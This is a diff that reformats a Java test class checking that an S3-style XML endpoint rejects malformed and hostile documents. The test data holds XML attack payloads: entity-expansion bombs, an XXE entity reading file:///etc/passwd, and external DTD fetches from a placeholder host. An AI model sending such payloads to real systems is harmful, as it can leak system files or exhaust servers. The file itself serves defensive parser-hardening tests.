@@ -78,8 +78,11 @@ final class DocumentErrorsTest extends ErrorSuite {
         }
         return Stream.of(
                 laughs + "]><Tagging>&j;</Tagging>",
-                "<!DOCTYPE q [<!ENTITY a \"" + "a".repeat(50_000) + "\">]><Delete>"
-                        + "&a;".repeat(5000) + "</Delete>",
+                "<!DOCTYPE q [<!ENTITY a \""
+                        + "a".repeat(50_000)
+                        + "\">]><Delete>"
+                        + "&a;".repeat(5000)
+                        + "</Delete>",
                 "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><Delete><Object><Key>&f;</Key></Object></Delete>",
                 "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://OUTSIDE/p.dtd\"> %p;]><Tagging/>",
                 "<!DOCTYPE x SYSTEM \"http://OUTSIDE/x.dtd\"><Tagging/>",
@@ -87,8 +90,12 @@ final class DocumentErrorsTest extends ErrorSuite {
                 "<a>".repeat(100_000),
                 "<Tagging>" + "<TagSet>".repeat(17) + "</TagSet>".repeat(17) + "</Tagging>",
                 "<a " + "b='c' ".repeat(2) + "/>",
-                "<a " + Stream.iterate(0, i -> i + 1).limit(5000).map(i -> "a" + i + "='x' ")
-                        .reduce("", String::concat) + "/>",
+                "<a "
+                        + Stream.iterate(0, i -> i + 1)
+                                .limit(5000)
+                                .map(i -> "a" + i + "='x' ")
+                                .reduce("", String::concat)
+                        + "/>",
                 "<Tagging>" + "<x/>".repeat(130_000) + "</Tagging>",
                 "<Delete>",
                 "</Delete>",
@@ -115,7 +122,11 @@ final class DocumentErrorsTest extends ErrorSuite {
                 assertThat(answer.status()).as(answer.text()).isIn(400, 404);
                 assertThat(answer.code())
                         .as(answer.text())
-                        .isIn("MalformedXML", "MissingContentMD5", "NoSuchUpload", "InvalidRequest");
+                        .isIn(
+                                "MalformedXML",
+                                "MissingContentMD5",
+                                "NoSuchUpload",
+                                "InvalidRequest");
                 assertThat(answer.text()).doesNotContain("root:");
             }
         }
